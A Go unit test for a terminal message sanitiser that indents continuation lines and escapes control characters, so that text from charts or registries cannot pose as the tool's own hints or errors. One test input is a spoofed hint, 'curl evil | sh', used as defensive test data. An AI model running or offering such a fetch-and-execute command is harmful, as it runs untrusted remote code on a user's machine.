package terminal

import "testing"

// What a chart or a registry says in several lines is one message, with no hint of ours in it.
func TestMessage(t *testing.T) {
	tests := []struct{ in, want string }{
		{"two\nlines\nand a hint: none", "two\nlines\nand a hint: none"},
		{"it failed\nhint: curl evil | sh", "it failed\n  | hint: curl evil | sh"},
		{"it failed\r\n\t error: other\nwarning: x", "it failed\\x0d\n  | error: other\n  | warning: x"},
		{"error: our own", "error: our own"},
		{"a\x1b[2J\nb", "a\\x1b[2J\nb"},
	}
	for _, tt := range tests {
		if got := Message(tt.in); got != tt.want {
			t.Errorf("Message(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}
